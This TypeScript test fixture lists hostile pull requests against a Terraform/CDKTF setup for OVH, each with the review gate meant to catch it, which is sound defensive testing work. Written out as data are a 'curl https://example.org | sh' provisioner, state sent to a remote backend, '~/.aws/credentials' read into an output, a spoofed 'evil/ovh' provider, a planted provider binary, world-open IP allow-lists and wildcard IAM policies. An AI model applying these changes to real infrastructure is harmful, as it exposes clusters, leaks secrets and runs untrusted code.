import type { Gate } from '../../../src/review/report/gate';

/** A hostile pull request against the example, and the gate that has to stop it. */
export interface Attack {
  readonly says: string;
  readonly gate: Gate;
  /** What it changes in the settings. */
  readonly settings?: readonly [from: string | RegExp, to: string];
  /** Code that it puts in front of the synthesis; `at(id)` is a stack, `first(id, type)` the first resource of a type in it. */
  readonly code?: string;
  /** Code behind the synthesis; `out` is the output folder. */
  readonly behind?: string;
}

const body = (stack: string, type: string, path: string, value: string): string =>
  `at('${stack}').addOverride(\`resource.${type}.\${first('${stack}', '${type}')}.${path}\`, ${value});`;

const inTheSettings: readonly Attack[] = [
  {
    says: 'the API of a cluster is opened to everybody',
    gate: 'world',
    settings: ['main: { apiAccess: office, nodePools: { olap', "main: { apiAccess: 'public', nodePools: { olap"],
  },
  {
    says: 'two halves of the internet instead of all of it',
    gate: 'world',
    code: body('erp-prod', 'ovh_cloud_project_kube_iprestrictions', 'ips', "['0.0.0.0/1', '128.0.0.0/1']"),
  },
  {
    says: 'what was granted until a day is granted for years',
    gate: 'access',
    settings: ["expires: '2027-03-31'", "expires: '2039-03-31'"],
  },
  {
    says: 'a viewer becomes an owner',
    gate: 'access',
    settings: ["access: { operator: ['erp'] }", "access: { owner: ['erp'] }"],
  },
  {
    says: 'nodes with data on their disks go',
    gate: 'data-loss',
    settings: ["flavor: 'r3-16', nodes: 6", "flavor: 'r3-16', nodes: 3"],
  },
  {
    says: 'a cluster gets another name',
    gate: 'data-loss',
    settings: [
      'clusters: { main: { apiAccess: office, nodePools: { odoo',
      'clusters: { second: { apiAccess: office, nodePools: { odoo',
    ],
  },
  {
    says: 'the VLAN of a network that a cluster is in changes',
    gate: 'data-loss',
    settings: ["'erp-prod': { vlan: 140", "'erp-prod': { vlan: 141"],
  },
  { says: 'a team leaves its stacks behind', gate: 'removed-stack', settings: [/, erp, data \}/, ', data }'] },
  {
    says: 'a network is outside of the European Union',
    gate: 'outside-eu',
    code: body('it-hub', 'ovh_cloud_project_network_private', 'regions', "['BHS5']"),
  },
];

const opened: readonly Attack[] = [
  {
    says: 'an allow-list hides its address behind a local value',
    gate: 'world',
    code: `at('erp-prod').addOverride('locals.office', '0.0.0.0/0'); ${body('erp-prod', 'ovh_cloud_project_kube_iprestrictions', 'ips', "['${local.office}']")}`,
  },
  {
    says: 'an allow-list is put together by a function',
    gate: 'world',
    code: body(
      'erp-prod',
      'ovh_cloud_project_kube_iprestrictions',
      'ips',
      '\'${concat(["203.0.113.0/28"], [join("/", ["0.0.0.0", "0"])])}\'',
    ),
  },
  {
    says: 'an allow-list is known to nobody before it is there',
    gate: 'exposure',
    code: body('erp-prod', 'ovh_cloud_project_kube_iprestrictions', 'ips', "'${terraform_data.X.output}'"),
  },
  {
    says: 'somebody else of another account is named in a policy',
    gate: 'access',
    code: body('organization', 'ovh_iam_policy', 'identities', "['urn:v1:eu:identity:account:zz9999-ovh']"),
  },
  {
    says: 'a policy allows everything',
    gate: 'star',
    code: body('organization', 'ovh_iam_policy', 'allow', "['*']"),
  },
  {
    says: 'a policy allows everything, behind a variable',
    gate: 'star',
    code: `at('organization').addOverride('variable.all.default', ['*']); ${body('organization', 'ovh_iam_policy', 'allow', "'${var.all}'")}`,
  },
];

const runs: readonly Attack[] = [
  {
    says: 'a provisioner',
    gate: 'runs-code',
    code: "at('erp-prod').addOverride('resource.terraform_data.X', { provisioner: [{ 'local-exec': { command: 'curl https://example.org | sh' } }] });",
  },
  {
    says: 'a provisioner that waits for the end of a cluster',
    gate: 'runs-code',
    code: body(
      'erp-prod',
      'ovh_cloud_project_kube',
      'provisioner',
      "[{ 'local-exec': { when: 'destroy', command: 'id' } }]",
    ),
  },
  {
    says: 'a program in a data source',
    gate: 'runs-code',
    code: "at('organization').addOverride('data.external.X', { program: ['id'] });",
  },
  {
    says: 'a chart of somebody else',
    gate: 'runs-code',
    code: body('it-shared-platform-tools', 'helm_release', 'repository', "'https://example.org/charts'"),
  },
  {
    says: 'a program over what a chart renders',
    gate: 'runs-code',
    code: body('it-shared-platform-tools', 'helm_release', 'postrender', "[{ binary_path: '/bin/sh' }]"),
  },
  {
    says: 'a module from elsewhere',
    gate: 'runs-code',
    code: "at('it-hub').addOverride('module.net', { source: 'git::https://example.org/net.git' });",
  },
  {
    says: 'a program that logs a provider in',
    gate: 'runs-code',
    code: "at('it-shared-platform-tools').addOverride('provider.kubernetes.0.exec', [{ command: 'sh', api_version: 'v1' }]);",
  },
  {
    says: 'a file of the machine that deploys, in an output',
    gate: 'runs-code',
    code: "at('it-hub').addOverride('output.x.value', '${file(\"~/.aws/credentials\")}');",
  },
  {
    says: 'a planted program that Terraform takes for its provider',
    gate: 'runs-code',
    behind:
      "put('stacks/it-hub/terraform.d/plugins/registry.terraform.io/ovh/ovh/2.19.0/linux_amd64/terraform-provider-ovh', '#!/bin/sh');",
  },
];

const elsewhere: readonly Attack[] = [
  {
    says: 'another provider under the same name',
    gate: 'provider',
    code: "at('it-hub').addOverride('terraform.required_providers.ovh.source', 'evil/ovh');",
  },
  {
    says: 'an older version of the provider',
    gate: 'provider',
    code: "at('it-hub').addOverride('terraform.required_providers.ovh.version', '0.1.0');",
  },
  {
    says: 'another endpoint of the API',
    gate: 'provider',
    code: "at('it-hub').addOverride('provider.ovh.0.endpoint', 'https://example.org/1.0');",
  },
  {
    says: 'a provider more',
    gate: 'provider',
    code: "at('it-hub').addOverride('resource.local_file.X', { filename: '/etc/cron.d/x', content: 'x' });",
  },
  {
    says: 'the state is sent to somebody',
    gate: 'state',
    code: "at('it-hub').addOverride('terraform.backend', { http: { address: 'https://example.org/state' } });",
  },
  {
    says: 'the state is looked for under another name',
    gate: 'state',
    code: "at('it-hub').addOverride('terraform.backend.local.path', '../../../state/other.tfstate');",
  },
  {
    says: 'a new stack with its state elsewhere',
    gate: 'state',
    code: "const { TerraformStack } = require('cdktf'); const next = new TerraformStack(app, 'next'); next.addOverride('terraform.backend', { http: { address: 'https://example.org/state' } });",
  },
];

const guards: readonly Attack[] = [
  {
    says: 'the guard against the wrong account is gone',
    gate: 'guard',
    code: "at('it-hub').node.tryRemoveChild('Account');",
  },
  {
    says: 'the guard against the wrong account always holds',
    gate: 'guard',
    code: "at('it-hub').addOverride(`data.ovh_me.${first('it-hub', 'ovh_me', 'data')}.lifecycle.postcondition.0.condition`, true);",
  },
  {
    says: 'what was hidden is shown',
    gate: 'guard',
    behind: `put('stacks/it-shared/cdk.tf.json', read('stacks/it-shared/cdk.tf.json').replace('"sensitive": true', '"sensitive": false'));`,
  },
  {
    says: 'changes of a cluster are passed over',
    gate: 'guard',
    code: body('it-shared', 'ovh_cloud_project_kube', 'lifecycle.ignore_changes', "['version', 'plan']"),
  },
  {
    says: 'the vRack of the company may be destroyed',
    gate: 'guard',
    code: body('organization', 'ovh_vrack', 'lifecycle.prevent_destroy', 'false'),
  },
];

const unread: readonly Attack[] = [
  {
    says: 'configuration beside the configuration',
    gate: 'unread',
    behind: 'put(\'stacks/it-hub/more.tf\', \'resource "ovh_vrack" "x" {}\');',
  },
  { says: 'an override', gate: 'unread', behind: "put('stacks/it-hub/x_override.tf.json', '{}');" },
  { says: 'values of variables', gate: 'unread', behind: "put('stacks/it-hub/x.auto.tfvars', 'a = 1');" },
  {
    says: 'a section twice, of which a parser sees the harmless one',
    gate: 'unread',
    behind:
      'put(\'stacks/it-hub/cdk.tf.json\', read(\'stacks/it-hub/cdk.tf.json\').replace(\'{\', \'{"resource":{"terraform_data":{"X":{"provisioner":[{"local-exec":{"command":"id"}}]}}},\'));',
  },
  {
    says: 'a working directory with other content',
    gate: 'unread',
    behind:
      "put('stacks/it-hub/sub/cdk.tf.json', read('stacks/it-hub/cdk.tf.json')); put('manifest.json', read('manifest.json').replace('\"workingDirectory\": \"stacks/it-hub\"', '\"workingDirectory\": \"stacks/it-hub/sub\"'));",
  },
  { says: 'a chart whose files are others', gate: 'unread', behind: "put(find('Chart.yaml'), 'name: other');" },
  {
    says: 'a link to a file of the machine',
    gate: 'unread',
    behind: "fs.symlinkSync('/etc/hostname', path.join(out, 'stacks/it-hub/x.txt'));",
  },
  {
    says: 'blocks that are made from a list',
    gate: 'unread',
    code: body(
      'erp-prod',
      'ovh_cloud_project_kube',
      'dynamic',
      "{ customization: { for_each: '${var.x}', content: {} } }",
    ),
  },
];

export const attacks: readonly Attack[] = [...inTheSettings, ...opened, ...runs, ...elsewhere, ...guards, ...unread];
